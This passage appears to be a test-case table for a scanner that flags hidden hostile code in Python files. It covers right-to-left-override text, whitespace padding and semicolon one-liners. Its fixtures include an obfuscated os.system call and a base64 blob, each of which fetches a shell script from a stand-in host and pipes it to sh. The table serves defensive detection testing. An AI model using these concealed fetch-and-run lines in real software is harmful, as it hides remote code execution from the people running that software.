    technique: 'unicode',
    language: 'py',
    files: {
      'ops/rlo.py': src('import os', '', 'os.system("echo done \u202e; hs | moc.elpmaxe.x//:sptth Ls- lruc")'),
    },
    expect: [
      { file: 'ops/rlo.py', line: 3, category: 'obfuscation' },
      { file: 'ops/rlo.py', line: 3, category: 'process' },
    ],
  },

  // ---------------------------------------------------------------- layout
  {
    name: 'subprocess call after three hundred blank lines',
    technique: 'layout',
    language: 'py',
    files: { 'app/main.py': BLANK_LINES },
    expect: [{ file: 'app/main.py', line: 305, category: 'process' }],
  },
  {
    name: 'os.system pushed to column 400 by spaces after a constant',
    technique: 'layout',
    language: 'py',
    files: { 'app/settings.py': PADDED },
    expect: [{ file: 'app/settings.py', line: 3, category: 'process' }],
  },
  {
    name: 'semicolon-joined one-liner fetches exec and runs a decoded blob',
    technique: 'layout',
    language: 'py',
    files: {
      'app/quick.py': src(
        "import base64;import builtins;f=getattr(builtins,'ex'+'ec');f(base64.b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUvcC5zaCB8IHNoJyk='))",
      ),
    },
    expect: [
      { file: 'app/quick.py', line: 1, category: 'dynamic-code' },
      { file: 'app/quick.py', line: 1, category: 'obfuscation' },
    ],
  },
];
